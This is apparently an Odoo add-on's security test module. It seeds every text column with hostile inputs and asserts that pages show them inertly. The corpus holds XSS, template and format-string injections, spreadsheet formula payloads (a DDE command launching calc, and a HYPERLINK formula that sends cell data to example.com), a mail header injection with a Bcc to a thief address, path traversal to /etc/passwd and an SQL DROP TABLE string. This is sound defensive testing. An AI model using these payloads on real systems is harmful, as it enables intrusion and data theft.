"""Texts of somebody who means harm, where they go in, and whether they came alive."""

import csv
import re
from pathlib import Path

from lxml import html

from odoo.tests import tagged
from odoo.tools import SQL

from .security_common import ADDON, SecurityCommon, our_models

#: Sums that nobody types: where the result shows up, something was run.
SUM, RESULT = "913*787", "718531"
#: All of it in one text, for what is looked at as a whole. It begins like a formula.
POISON = (
    '=1"\'><b data-hostile="1">x</b><img src=x onerror="hostile=1">'
    f'<t t-out="{SUM}"/>{{{{{SUM}}}}}${{{SUM}}}#{{{SUM}}}%(x)s%s%d{{0}}{{x}}'
)
#: One kind of harm each.
CORPUS = {
    "script": "<script>window.hostile=1</script>",
    "image": "<img src=x onerror=window.hostile=1>",
    "svg": '"><svg onload="window.hostile=1" data-hostile="1">',
    "attribute": '" onmouseover="window.hostile=1" data-hostile="1',
    "attribute, single": "' autofocus onfocus='window.hostile=1' data-hostile='1",
    "address": "javascript:window.hostile=1",
    "style": "</style><style data-hostile>*{display:none}</style>",
    "entity": "&lt;b data-hostile=1&gt; &amp;amp; &#60;b&#62;",
    "comment": "<!-- <t t-call='web.layout'> --> ]]>",
    "qweb": f'<t t-out="{SUM}"/><t t-esc="{SUM}" data-hostile="1"/>',
    "inline template": f"{{{{ {SUM} }}}} {{{{ object.env.cr }}}} {{% if 1 %}}",
    "template": f"${{{SUM}}} #{{{SUM}}} <%= {SUM} %>",
    "format": "%(x)s %s %d %% %",
    "format, braces": "{0} {x} {0.__class__} {",
    "formula": f"={SUM}",
    "formula, command": "=cmd|' /C calc'!A0",
    "formula, plus": f"+{SUM}",
    "formula, minus": f"-{SUM}",
    "formula, at": f"@SUM({SUM})",
    "formula, tab": f"\t={SUM}",
    "formula, return": f"\r={SUM}",
    "formula, array": f"{{={SUM}}}",
    "link": '=HYPERLINK("http://example.com?x="&A1,"x")',
    "header": "Hello\r\nBcc: thief@example.com\r\n\r\nData",
    "path": '../../etc/passwd\\..\\x;"a".pdf',
    "backwards": "invoice\u202efdp.exe \u200b\ufeff\u2066",
    "quotes": "O'Brien \"; DROP TABLE x; -- \\' \\",
    "signs": "\U0001f600 \u00e4\u00f6\u00fc \u0130 \ufffd \U000e0041",
    "long": "x" * 19_000,
}
TEXTS = ("char", "text", "html")
#: ``typed``: people write it. ``kept``: the engine copies it. ``made``: put together
#: from others. ``code``: a word of ours, never free.
WAYS = ("typed", "kept", "made", "code")
ROWS = Path(__file__).with_name("injection_fields.csv")
#: Names that Odoo keeps and our screens show: model and field.
HOSTS = (
    ("project.project", "name"),
    ("project.task", "name"),
    ("project.milestone", "name"),
    ("account.analytic.line", "name"),
    ("account.analytic.account", "name"),
    ("account.move", "ref"),
    ("account.move.line", "name"),
    ("product.template", "name"),
    ("hr.employee", "name"),
    ("hr.department", "name"),
    ("res.partner", "name"),
    ("res.partner", "complete_name"),
)


def free_texts(env):
    """Return ``{(model, field)}``: every text of ours, wherever we put it."""
    return {
        (name, field.name)
        for name, model in env.registry.items()
        if not model._abstract
        for field in model._fields.values()
        if field.type in TEXTS and ADDON in field._modules and not field.inherited
    }


def read_rows():
    """Return ``{(model, field): way}`` of the list."""
    with ROWS.open(newline="") as stream:
        return {
            (row["model"], row["field"]): row["way"] for row in csv.DictReader(stream)
        }


def squeeze(text):
    """Return a text without white space: pages and PDFs wrap where they like."""
    return re.sub(r"\s+", "", text)


def read_page(source):
    """Return a page's text, and what in it came alive."""
    root = html.fromstring(f"<div>{source}</div>" if "<html" not in source else source)
    alive = root.xpath("//*[@data-hostile]")
    alive += [
        node
        for node in root.iter()
        for name, value in node.attrib.items()
        if "hostile" in value and (name.startswith("on") or "javascript:" in value)
    ]
    alive += [
        node
        for node in root.xpath("//script | //style | //svg | //iframe")
        if "window.hostile" in node.text_content() and not is_data(node)
    ]
    return root.text_content(), [html.tostring(node)[:200] for node in alive]


def is_data(node):
    """Tell whether a script holds values only, as Odoo's own pages do."""
    return "odoo.__session_info__" in node.text_content()


class LiteralMixin:
    """The assertion."""

    def assertLiteral(self, source, *texts):
        """Assert that a page shows texts as they are, and ran nothing of any."""
        text, alive = read_page(source)
        self.assertFalse(alive)
        self.assertNotIn(RESULT, source)
        for wanted in texts:
            self.assertIn(squeeze(wanted), squeeze(text))


@tagged("post_install", "-at_install")
class InjectionCommon(LiteralMixin, SecurityCommon):
    """Every record of ours, with poison in every text that it has."""

    @classmethod
    def _poison_tables(cls, text=POISON):
        """Write a text into every column that holds one, below all checks.

        So it is also where no screen would let it in: what shows it has to be safe by
        itself.
        """
        cls.env.flush_all()
        rows = [key for key, way in read_rows().items() if way in ("typed", "kept")]
        for name, field_name in {*rows, *HOSTS}:
            model = cls.env[name]
            field = model._fields[field_name]
            if field.store and field.column_type and model._auto:
                cls._poison_column(model, field, text)
        cls.env.invalidate_all()

    @classmethod
    def _poison_column(cls, model, field, text):
        if field.type == "html":
            text = f"<p>{html_escape(text)}</p>"
        value = SQL("%s", text)
        if field.translate:
            value = SQL("jsonb_build_object('en_US', %s::text)", text)
        table, column = SQL.identifier(model._table), SQL.identifier(field.name)
        # the journal refuses any change by a trigger
        cls.env.cr.execute(SQL("ALTER TABLE %s DISABLE TRIGGER USER", table))
        cls.env.cr.execute(SQL("UPDATE %s SET %s = %s", table, column, value))
        cls.env.cr.execute(SQL("ALTER TABLE %s ENABLE TRIGGER USER", table))

    def _texts_of(self, name, *ways):
        """Return the free texts of a model that come in some ways."""
        rows = read_rows()
        return sorted(
            field
            for (model, field), way in rows.items()
            if model == name and way in ways
        )

    def _host(self, name):
        record = self._record(name) or self.env[name].search([], limit=1)
        self.assertTrue(record, f"no {name} to type into")
        return record[:1]

    def _window(self, name):
        """Return what a window needs besides its texts."""
        own = self.records["own"]
        request = own["project.billing.request"]
        needed = {
            "request_id": request.id,
            "request_ids": request.ids,
            "line_id": request.line_ids[:1].id,
            "milestone_ids": own["project.milestone"].ids,
            "project_id": request.project_id.id,
            "step": self._first_step(name),
            "leak_ids": own["project.billing.leak"].ids,
            "user_id": self.pm.id,
            "partner_ids": request.partner_id.ids,
            "quantity": 1,
        }
        fields = self.env[name]._fields
        for field in fields.values():
            if (
                field.type == "many2one"
                and field.required
                and field.comodel_name in own
            ):
                needed[field.name] = own[field.comodel_name][:1].id
        return {
            **{field: value for field, value in needed.items() if field in fields},
            **dict.fromkeys(self._texts_of(name, "typed"), "x"),
        }

    def _first_step(self, name):
        field = self.env[name]._fields.get("step")
        return field and field.selection[0][0]

    def _with_records(self):
        """Return the records that have texts, one of each model that people read."""
        records = [self._record(name)[:1].exists() for name in our_models(self.env)]
        readers = self.env(user=self.roles["billing_manager"])
        return [
            record
            for record in records
            if record and record.with_env(readers).has_access("read")
        ]


def html_escape(text):
    """Return a text as a page holds it."""
    return (
        text.replace("&", "&amp;")
        .replace("<", "&lt;")
        .replace(">", "&gt;")
        .replace('"', "&quot;")
        .replace("'", "&#39;")
    )
